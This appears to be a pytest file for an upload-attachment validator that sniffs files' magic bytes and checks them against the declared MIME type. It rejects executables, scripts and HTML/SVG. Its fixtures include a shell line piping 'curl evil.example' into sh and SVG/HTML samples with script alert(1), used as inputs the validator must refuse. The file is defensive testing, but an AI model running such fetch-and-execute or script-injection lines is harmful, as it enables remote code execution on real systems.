"""Files told by their first bytes, against what they claim."""

import io
import zipfile

import pytest

from chalicelib.attachments import content
from chalicelib.attachments.domain import OFFICE

PAD = bytes(200)


def a_zip(*names):
    """An archive of empty files, the same at any time: its bytes are part of tests' names."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), "")
    return made.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + PAD
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1" + PAD
WEBP = b"RIFF\x24\0\0\0WEBPVP8 " + PAD
WAV = b"RIFF\x24\0\0\0WAVEfmt " + PAD
WEBM = bytes.fromhex("1a45dfa39f4286810142f7810142f2810442f381084282847765626d") + PAD
MP4 = b"\0\0\0\x18ftypisom\0\0\0\0mp42isom" + PAD
M4A = b"\0\0\0\x18ftypM4A \0\0\0\0mp42isom" + PAD
OGG = b"OggS\0\x02" + bytes(20) + b"\x01\x1eOpusHead" + PAD
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + PAD
DOCX = a_zip("[Content_Types].xml", "word/document.xml")
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + PAD
ELF = b"\x7fELF\x02\x01\x01\0" + PAD
MACH = b"\xcf\xfa\xed\xfe\x07\0\0\x01" + PAD
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script>"
SHELL = b"#!/bin/sh\ncurl evil.example | sh\n"
WORD = f"{OFFICE}.wordprocessingml.document"


@pytest.mark.feature("MSG-21")
@pytest.mark.parametrize(
    ("start", "declared"),
    [
        (PNG, "image/png"),
        (JPEG, "image/jpeg"),
        (WEBP, "image/webp"),
        (b"GIF89a" + PAD, "image/gif"),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + PAD, "image/heic"),
        (b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + PAD, "image/avif"),
        (WAV, "audio/wav"),
        (WEBM, "audio/webm"),  # what MediaRecorder makes in Chromium and Firefox
        (MP4, "audio/mp4"),  # and in Safari
        (M4A, "audio/mp4"),
        (OGG, "audio/ogg"),
        (b"ID3\x04\0\0\0\0\0\0" + PAD, "audio/mpeg"),
        (b"\xff\xfb\x90\x44" + PAD, "audio/mpeg"),
        (b"#!AMR\n" + PAD, "audio/amr"),
        (MP4, "video/mp4"),
        (WEBM, "video/webm"),
        (b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + PAD, "video/quicktime"),
        (PDF, "application/pdf"),
        (OLE, "application/msword"),
        (OLE, "application/vnd.ms-excel"),
        (DOCX, WORD),
        (a_zip("a.txt"), "application/zip"),
        (b"{\\rtf1 hello}", "application/rtf"),
        (b"name,price\nkettle,12\n", "text/csv"),
        ("Grüße".encode(), "text/plain"),
        ("Grüße".encode("latin-1"), "text/plain"),
        ("Grüße".encode("utf-16"), "text/plain"),
        (b"a < b and <tag in the middle>", "text/plain"),
    ],
)
def test_what_is_what_it_claims_passes(start, declared):
    assert content.actual_type(start, declared) == declared


@pytest.mark.feature("MSG-21")
@pytest.mark.parametrize(
    "start",
    [EXE, ELF, MACH, SVG, HTML, SHELL, b"\xca\xfe\xba\xbe\0\0\0\x34" + PAD, b"<?php echo 1;",
     b'<?xml version="1.0"?><svg/>', b"\xef\xbb\xbf \n<HTML><body>", "<html>".encode("utf-16")],
)  # fmt: skip
@pytest.mark.parametrize(
    "declared",
    ["image/png", "audio/mpeg", "video/mp4", "application/pdf", "application/zip", WORD,
     "text/plain", "text/csv"],
)  # fmt: skip
def test_what_runs_is_refused_whatever_it_claims(start, declared):
    assert content.actual_type(start, declared) is None


@pytest.mark.feature("MSG-21")
@pytest.mark.parametrize(
    ("start", "declared", "actual"),
    [
        (WEBP, "image/jpeg", "image/webp"),
        (PNG, "image/jpeg", "image/png"),
        (OGG, "audio/mpeg", "audio/ogg"),
        (WAV, "image/webp", None),
        (WEBP, "audio/wav", None),
        (PDF, "image/png", None),
        (PNG, "application/pdf", None),
        (PDF, WORD, None),
        (PNG, "text/plain", None),
        (b"\xff\xfe\x00\xd8", "text/csv", None),
    ],
)
def test_media_is_what_its_content_is_and_nothing_changes_its_kind(start, declared, actual):
    assert content.actual_type(start, declared) == actual
